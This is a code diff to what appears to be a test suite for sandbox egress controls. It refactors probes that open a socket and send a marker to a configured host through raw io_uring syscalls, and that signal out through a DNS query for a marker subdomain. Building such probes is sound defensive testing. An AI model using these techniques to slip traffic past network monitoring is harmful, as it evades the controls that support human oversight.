@@ -134,7 +134,8 @@ BENEATH = family(
         def ask(what, fd, place, length, more=0):
             tail = struct.unpack_from("I", shared, sq[1])[0]
             slot = tail % entries
-            struct.pack_into("BBHiQQIIQ", notes, 64 * slot, what, 0, 0, fd, more, place, length, 0, 0)
+            note = (what, 0, 0, fd, more, place, length, 0, 0)
+            struct.pack_into("BBHiQQIIQ", notes, 64 * slot, *note)
             struct.pack_into("I", shared, sq[6] + 4 * slot, slot)
             struct.pack_into("I", shared, sq[1], tail + 1)
             call(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: hand in one, wait for one
@@ -146,7 +147,8 @@ BENEATH = family(
 
         host, port = TARGET["tcp"]
         address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
-        address, word = (ctypes.create_string_buffer(one) for one in (address, TARGET["mark"].encode()))
+        address = ctypes.create_string_buffer(address)
+        word = ctypes.create_string_buffer(TARGET["mark"].encode())
         way = ask(45, 2, 0, 0, more=1)  # socket
         ask(16, way, ctypes.addressof(address), 0, more=16)  # connect
         ask(26, way, ctypes.addressof(word), len(TARGET["mark"]))  # send
@@ -170,7 +172,8 @@ BENEATH = family(
         server = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
         ctypes.memmove(state, struct.pack("ii", 1, 1), 8)  # be quick
         ctypes.memmove(state + 16, struct.pack("i", 1) + server, 20)
-        c.res_query(f"{TARGET['mark']}.example".encode(), 1, 1, ctypes.create_string_buffer(512), 512)
+        name = TARGET["mark"].encode() + b".example"
+        c.res_query(name, 1, 1, ctypes.create_string_buffer(512), 512)
         c.__res_init()
         """,
     ),
